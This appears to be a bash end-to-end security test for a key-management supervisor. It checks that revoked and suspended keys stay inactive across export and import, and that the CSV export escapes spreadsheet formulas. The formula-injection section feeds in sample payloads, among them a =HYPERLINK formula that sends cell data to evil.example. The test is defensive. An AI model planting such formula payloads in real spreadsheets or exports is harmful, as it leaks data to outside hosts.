#!/usr/bin/env bash
# Attack through bulk import: `keysup key export` writes every key, revoked
# and suspended ones included, and `keysup key import` reads it back. The
# format had no state, so moving a supervisor's keys to a new one (or
# seeding a second one) made every revoked and suspended key active there:
# revocation is final, and an export/import undid it silently. The format
# now carries `state`; a file without it still imports keys as active.
source "$(dirname "$0")/lib.sh"

sup_init
sup_start
for k in alice bob carol dave; do keygen $k; done
"$B/keysup" --json key show "$W/dave.key" | python3 -c 'import json,sys; print(json.load(sys.stdin)["public_key"])' >"$W/dave.pub"
for k in alice bob carol; do
    api key enrol --public-key "$W/$k.key" --privilege OPERATOR --scope 1 >"$W/$k.json" || fail "enrol $k"
done
# dave holds every privilege bit: 64 names, longer than the export's line
# buffer (its CSV line was cut there, the next key joined onto it)
python3 - "$W" <<'PY'
import sys
w = sys.argv[1]
pk = open(f"{w}/dave.pub").read().strip()
privs = "|".join(["OPERATOR"] + [f"BIT{b}" for b in range(12, 64)])
open(f"{w}/dave.csv", "w").write(f"public_key,privileges,scope\n{pk},{privs},2\n")
PY
api key import "$W/dave.csv" >"$W/dave.json" || fail "import dave: $(cat "$W/dave.json")"
api key revoke "$(j "$W/alice.json" 'd["key_id"]')" >/dev/null || fail "revoke alice"
api key suspend "$(j "$W/bob.json" 'd["key_id"]')" >/dev/null || fail "suspend bob"
api key export -o "$W/keys.csv" >/dev/null || fail "export csv"
api key export --format jsonl -o "$W/keys.jsonl" >/dev/null || fail "export jsonl"
api key import "$W/keys.csv" >"$W/same.json" || fail "re-import into the same supervisor: $(cat "$W/same.json")"
[ "$(j "$W/same.json" 'd["imported"], d["unchanged"]')" = "(0, 4)" ] || fail "re-import is not a no-op: $(cat "$W/same.json")"
api key import "$W/keys.jsonl" >"$W/same2.json" || fail "re-import jsonl: $(cat "$W/same2.json")"
# A file stricter than the registry is a change, made with the key verbs.
CAROL_PK=$("$B/keysup" --json key show "$W/carol.key" | python3 -c 'import json,sys; print(json.load(sys.stdin)["public_key"])')
sed "s/^\($CAROL_PK,.*\),active\$/\1,revoked/" "$W/keys.csv" >"$W/stricter.csv"
grep -q "^$CAROL_PK,.*,revoked\$" "$W/stricter.csv" || fail "test setup: carol's line"
"$B/keysup" key import "$W/stricter.csv" >"$W/st.out" 2>"$W/st.err" && fail "a stricter state was taken as unchanged"
grep -q "different state" "$W/st.err" && grep -q "KSE-751" "$W/st.err" || fail "stricter state: $(cat "$W/st.err")"
ok "export of 4 keys (1 revoked, 1 suspended, 1 with 53 privileges); importing it back is a no-op; a stricter state is refused (KSE-751)"

for fmt in csv jsonl; do
    # a new supervisor, the file imported into it, a controller of scope 1
    if [ -n "${CTL_PID[door]:-}" ]; then # the last round's agent: gone before its files
        kill "${CTL_PID[door]}" 2>/dev/null || true
        wait "${CTL_PID[door]}" 2>/dev/null || true
    fi
    sup_stop
    rm -rf "$W/sup" "$W"/door.* "$W/port" "$W/admin.tok"
    unset SUP_PORT
    sup_init
    sup_start
    api key import "$W/keys.$fmt" >"$W/imp.json" || fail "import $fmt: $(cat "$W/imp.json")"
    ctl_add door 1
    ctl_run door
    wait_until 15 "door in step" in_step door
    present "$W/carol.key" door access || fail "$fmt: carol (active) refused: $(cat "$W/present.err")"
    present "$W/alice.key" door access && fail "$fmt: alice, REVOKED at the old supervisor, granted at the new one"
    grep -q "KSE-203" "$W/present.err" || fail "$fmt: alice refused for another reason: $(cat "$W/present.err")"
    present "$W/bob.key" door access && fail "$fmt: bob, SUSPENDED at the old supervisor, granted at the new one"
    api key get "$(j "$W/alice.json" 'd["key_id"]')" >"$W/a.json"
    [ "$(j "$W/a.json" 'd["state"]')" = revoked ] || fail "$fmt: alice is $(j "$W/a.json" 'd["state"]') at the new supervisor"
    ok "$fmt export imported into a new supervisor: carol granted, alice refused (revoked, KSE-203), bob refused (suspended)"
done

# A file naming a state that is not one: refused with its line.
printf 'public_key,state\n%s,lapsed\n' "$(python3 -c 'import os; print(os.urandom(32).hex())')" >"$W/bad.csv"
api key import "$W/bad.csv" >"$W/bad.json" 2>&1 && fail "a bad state was imported"
grep -q "state" "$W/bad.json" || fail "the refusal does not name the state: $(cat "$W/bad.json")"
ok "an unknown state is refused with its line"
# CSV injection: labels chosen by whoever enrols or imports a key run as
# formulas when an auditor opens `keysup key export` in a spreadsheet. Each
# such cell now starts with an apostrophe, and importing the export gives
# the labels back exactly.
python3 - "$W" <<'PY'
import json, os, sys
w = sys.argv[1]
labels = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2", "@SUM(A1)", "'=quoted", "ok label"]
with open(f"{w}/formula.jsonl", "w") as f:
    for l in labels:
        f.write(json.dumps({"public_key": os.urandom(32).hex(), "label": l, "scope": 5}) + "\n")
PY
api key import "$W/formula.jsonl" >"$W/formula.json" || fail "import formula labels: $(cat "$W/formula.json")"
api key export -o "$W/formula_out.csv" >/dev/null || fail "export"
python3 - "$W/formula_out.csv" <<'PY' || fail "a formula cell in the export"
import csv, sys
for row in csv.reader(open(sys.argv[1], newline="")):
    for cell in row:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            sys.exit(f"cell {cell!r} starts a formula")
PY
# The export read back into the same supervisor: a no-op, so every label
# came back exactly as entered (an apostrophe left on would be a change).
api key import "$W/formula_out.csv" >"$W/formula2.json" || fail "re-import: $(cat "$W/formula2.json")"
n=$(($(wc -l <"$W/formula_out.csv") - 1))
[ "$(j "$W/formula2.json" 'd["imported"], d["unchanged"]')" = "(0, $n)" ] \
    || fail "the export read back changed labels: $(cat "$W/formula2.json")"
api key export --format jsonl -o "$W/formula2.jsonl" >/dev/null || fail "export jsonl"
grep -qF '"label":"=HYPERLINK(' "$W/formula2.jsonl" && grep -qF "\"label\":\"'=quoted\"" "$W/formula2.jsonl" \
    || fail "labels not as entered: $(grep -i label "$W/formula2.jsonl" | head -3)"
ok "formula labels leave the CSV export as text ('=...), and come back exact on import"
echo "attack_import_e2e: all $steps steps passed"
